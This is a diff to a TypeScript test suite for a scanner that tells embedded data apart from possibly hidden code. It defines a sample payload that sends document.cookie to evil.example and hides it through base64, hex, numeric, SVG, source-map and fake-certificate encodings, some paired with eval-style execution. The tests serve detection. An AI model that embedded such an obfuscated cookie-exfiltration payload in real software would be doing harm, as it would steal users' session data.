@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
 import { withoutData } from '../../../src/steps/diff/data-runs';
+import { usesOf } from '../../../src/steps/diff/known-data';
 
 /** Bytes that look random and are the same in every run. */
 function bytes(count: number, start = ''): Buffer {
@@ -13,7 +14,8 @@ function bytes(count: number, start = ''): Buffer {
 const PNG = bytes(1800, '89504e470d0a1a0a0000000d49484452').toString('base64');
 const CODE = 'fetch("https://evil.example/?" + document.cookie); ';
 
-const read = (line: string, isEvaluated = false) => withoutData(line, () => isEvaluated);
+const read = (line: string, file = '', otherFile = '') =>
+  withoutData(line, { uses: () => usesOf([line, file]), usesElsewhere: usesOf([otherFile]) });
 
 describe('what is known to be data is taken out of a line', () => {
   const certificate = `-----BEGIN CERTIFICATE-----\n${PNG.slice(0, 1280).replace(/.{64}/g, '$&\n')}-----END CERTIFICATE-----\n`;
@@ -76,7 +78,54 @@ describe('what may be code is told as not read', () => {
   it('random bytes in a file that decodes texts', () => {
     const line = `const s = "${bytes(2000).toString('base64')}";`;
     assert.equal(read(line).unknown, 0);
-    assert.ok(read(line, true).unknown > 1000);
+    assert.ok(read(line, 'run(atob(s));').unknown > 1000);
+  });
+
+  const broken = CODE.repeat(40).replace(/(.{100})/g, '$1\u0001');
+  const numbers = [...CODE.repeat(20)].map((letter) => String(letter.charCodeAt(0)).padStart(3, '0')).join('');
+  const svg = `<svg><desc>${CODE.repeat(40)}</desc></svg>`;
+  const base64 = (text: string | Buffer) => Buffer.from(text).toString('base64');
+  const disguised: Record<string, string> = {
+    'text broken by control characters': `const s = "${base64(broken)}";`,
+    'such text behind the head of a picture': `const s = "${base64(Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.from(broken)]))}";`,
+    'such text as hexadecimal digits': `const s = "${Buffer.from(broken).toString('hex')}";`,
+    'letters as numbers of three digits': `const s = "${numbers}";`,
+    'letters as numbers behind another digit': `N = 7${numbers}`,
+    'letters as one number': `N = ${BigInt(`0x${Buffer.from(CODE.repeat(20)).toString('hex')}`)}`,
+    'letters as octal numbers': `N = "${[...CODE.repeat(20)].map((letter) => letter.charCodeAt(0).toString(8).padStart(3, '0')).join('')}"`,
+    'code in the description of a drawing': `const s = "${base64(svg)}";`,
+    'code beside a source map': `const s = "${base64(JSON.stringify({ version: 3, mappings: '', code: CODE.repeat(40) }))}";`,
+    'code as a certificate': `const s = "${base64(`-----BEGIN CERTIFICATE-----\n${base64(CODE.repeat(40)).replace(/.{64}/g, '$&\n')}\n-----END CERTIFICATE-----\n`)}";`,
+  };
+  for (const [name, line] of Object.entries(disguised)) {
+    it(name, () => assert.ok(read(line).unknown > 1000, JSON.stringify(read(line))));
+  }
+
+  it('a picture where a text is run, in its file or in another', () => {
+    const line = `const logo = "${PNG}";`;
+    for (const run of ['eval(decoded(logo));', 'setTimeout(pieces(logo));', '[].map.constructor(text)();']) {
+      assert.ok(read(line, run).unknown > 1000, run);
+      assert.ok(read(line, '', run).unknown > 1000, run);
+    }
+  });
+
+  it('a picture in an address where a text is run, once something decodes it', () => {
+    const line = `const logo = "data:image/png;base64,${PNG}";`;
+    assert.equal(read(line, 'eval(input);').unknown, 0);
+    assert.ok(read(line, 'eval(atob(logo.slice(22)));').unknown > 1000);
+  });
+
+  it('but no picture beside what people write in any file', () => {
+    const line = `const logo = "${PNG}";`;
+    const usual =
+      "const m = /x/.exec(s); await import('./a'); el.innerHTML = s; setTimeout(resolve, 5); save(logo, 'base64');";
+    for (const found of [read(line, usual), read(line, '', usual)]) assert.equal(found.unknown, 0);
+  });
+
+  it('random bytes that another file decodes', () => {
+    const line = `const s = "${bytes(2000).toString('base64')}";`;
+    assert.ok(read(line, '', 'run(atob(s));').unknown > 1000);
+    assert.equal(read(line, '', 'const m = /x/.exec(s);').unknown, 0);
   });
 
   it('and what stands behind it is shown', () => {
